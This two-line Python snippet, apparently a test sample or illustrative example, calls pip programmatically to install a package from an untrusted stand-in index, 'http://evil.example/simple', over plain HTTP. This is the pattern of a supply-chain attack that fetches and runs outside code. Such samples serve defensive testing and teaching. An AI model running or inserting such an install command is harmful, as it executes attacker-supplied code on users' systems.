import pip
pip.main(["install", "--index-url", "http://evil.example/simple", "pkg"])
